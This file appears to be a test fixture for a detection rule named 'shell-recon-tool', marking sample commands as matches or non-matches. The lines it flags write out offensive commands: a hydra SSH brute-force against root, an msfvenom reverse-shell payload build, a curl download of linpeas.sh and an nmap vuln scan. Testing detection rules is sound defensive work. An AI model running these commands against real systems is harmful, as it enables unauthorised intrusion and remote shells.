# ruleid: shell-recon-tool
hydra -l root -P words.txt ssh://203.0.113.9
# ruleid: shell-recon-tool
msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.9 -f elf
# ruleid: shell-recon-tool
curl -sL https://example.test/linpeas.sh -o l.sh
# ruleid: shell-recon-tool
nmap --script vuln 203.0.113.9
# ok: shell-recon-tool
nmap -sn 192.168.1.0/24
# ok: shell-recon-tool
openssl s_client -connect example.test:443
# ok: shell-recon-tool
tcpdump -i eth0 port 443
# ok: shell-recon-tool
ab -n 100 http://localhost/
# a decoy: sqlmap -u http://example.test
